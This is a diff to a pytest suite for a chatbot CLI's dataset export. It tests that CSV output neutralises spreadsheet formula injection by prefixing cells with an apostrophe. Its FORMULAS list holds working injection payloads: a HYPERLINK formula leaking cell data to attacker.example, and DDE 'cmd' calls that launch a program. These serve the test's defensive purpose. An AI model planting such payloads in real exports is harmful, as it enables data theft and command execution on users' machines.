@@ -1,7 +1,8 @@
-"""``chatbot data build|list|show|export`` through click's runner."""
+"""``chatbot data build|list|show|export`` through click's runner; CSV exports safe to open."""
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 
@@ -9,6 +10,7 @@ import pytest
 from click.testing import CliRunner
 
 from chatbot.cli import main
+from chatbot.spreadsheet import safe_cell
 
 DATA = Path(__file__).parent / "data" / "transcripts"
 
@@ -72,3 +74,39 @@ def test_data_is_listed_under_training_and_evaluation(run):
     help_text = run("--help").stdout
     section = help_text.split("Training and evaluation:")[1].split("Setup:")[0]
     assert any(line.split()[:1] == ["data"] for line in section.splitlines())
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")',
+            "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_neutralises_formula_cells_and_keeps_the_text(run, tmp_path):
+    answers = ["The sync indexes new and changed files only, so running it twice is cheap.",
+               "Open the Arena tab to compare two variants side by side and vote.",
+               "Build a dataset from the log with chatbot data build and read its report.",
+               "Raise index.max_file_mb in the config when large PDF files are skipped.",
+               "Run chatbot serve and open the printed address in any web browser.",
+               "Set retrieval.k lower so that the prompt is shorter and answers come faster.",
+               "Thumbed-down answers with a comment are kept for review, never trained on."]
+    lines = [json.dumps({"messages": [{"role": "system", "content": formula},
+                                      {"role": "user", "content": formula},
+                                      {"role": "assistant", "content": f"{formula} {answer}"}]})
+             for formula, answer in zip(FORMULAS, answers)]
+    source = tmp_path / "formulas.jsonl"
+    source.write_text("\n".join(lines) + "\n")
+    assert run("data", "build", "--name", "f", "--from", str(source)).exit_code == 0
+    out = tmp_path / "f.csv"
+    exported = run("data", "export", "f", "--format", "csv", "--out", str(out))
+    assert exported.stdout.strip() == f"wrote {len(FORMULAS)} conversations to {out}"
+    with out.open(newline="", encoding="utf-8") as handle:
+        header, *rows = list(csv.reader(handle))
+    assert header == ["conversation_id", "split", "message", "role", "content"]
+    assert len(rows) == 3 * len(FORMULAS)
+    assert {row[4] for row in rows if row[3] == "user"} == {"'" + f for f in FORMULAS}
+    assert all(row[4].startswith("'") for row in rows)  # nothing a spreadsheet would run
+
+
+@pytest.mark.parametrize("cell", ["plain text", "a = b", "it costs 3-5 days", "", "'quoted"])
+def test_ordinary_cells_are_written_unchanged(cell):
+    assert safe_cell(cell) == cell
